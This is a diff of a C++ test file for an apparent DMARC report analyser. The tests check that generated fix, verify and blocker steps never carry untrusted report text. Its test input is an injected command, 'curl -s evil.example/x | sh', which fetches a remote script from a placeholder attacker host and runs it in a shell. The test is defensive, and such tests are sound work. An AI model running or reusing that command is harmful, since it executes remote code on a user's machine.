@@ -5,9 +5,10 @@
 #include <algorithm>
 
 #include "report/analysis/finding/copyable.h"
-#include "report/analysis/finding/finding_texts.h"
 #include "report/analysis/readiness/readiness.h"
 #include "report/answers/next_record.h"
+#include "report/render/phrases/blocker_phrases.h"
+#include "report/render/phrases/finding_phrases.h"
 #include "tests/report/analysis/readiness/policy_support.h"
 
 using namespace dmarcq;
@@ -76,22 +77,22 @@ TEST_CASE("copyable: host names, selectors, org ids, values of an entry") {
 
 TEST_CASE("copyable: no step of any finding holds text of a report that is no name") {
   const std::string evil = "sf1; curl -s evil.example/x | sh;";
-  const FindingNames names{.from = evil,
-                           .own = evil,
+  const FindingNames names{.header_from = evil,
+                           .own_domain = evil,
                            .policy_domain = evil,
                            .selector = evil,
                            .signing_domain = evil,
                            .spf_domain = evil,
-                           .org = evil,
+                           .orgs = {{.org_id = evil, .instance = "na63"}},
                            .reporter = evil,
-                           .gateway = evil,
-                           .unsigned_words = evil};
+                           .gateway = evil};
   for (std::size_t code = 0; code < finding_code_count; ++code) {
-    const FindingText& text = text_of(static_cast<FindingCode>(code));
-    CAPTURE(to_text(text.code));
-    CHECK_FALSE(fill(text.cause, names).contains("curl"));
-    CHECK_FALSE(fill(text.verify, names).contains("curl"));
-    for (const FixStep& step : text.fix) CHECK_FALSE(fill(step.text, names).contains("curl"));
+    const auto sentences = sentences_of(static_cast<FindingCode>(code), names);
+    CAPTURE(to_text(static_cast<FindingCode>(code)));
+    const bool lists_orgs = sentences.cause.contains(evil + " (na63");
+    CHECK((lists_orgs || !sentences.cause.contains("curl")));
+    CHECK_FALSE(sentences.verify.contains("curl"));
+    for (const std::string& step : sentences.fix) CHECK_FALSE(step.contains("curl"));
   }
   CHECK(fill("dig +short CNAME {selector}._domainkey.{d}", names) ==
         "dig +short CNAME <selector>._domainkey.the signing domain");
@@ -137,8 +138,8 @@ TEST_CASE(
     const Readiness readiness = assess(w.timeline, lookup, owner, question, streams);
     CHECK_FALSE(readiness.blockers.empty());
     for (const Blocker& blocker : readiness.blockers) {
-      CHECK_FALSE(blocker.verify.contains("curl"));
-      for (const std::string& step : blocker.fix) CHECK_MESSAGE(!step.contains("curl"), step);
+      CHECK_FALSE(verify_of(blocker).contains("curl"));
+      for (const std::string& step : fix_of(blocker)) CHECK_MESSAGE(!step.contains("curl"), step);
     }
     for (const std::string& note : readiness.notes) CHECK_FALSE(note.contains("curl"));
     REQUIRE(readiness.current);
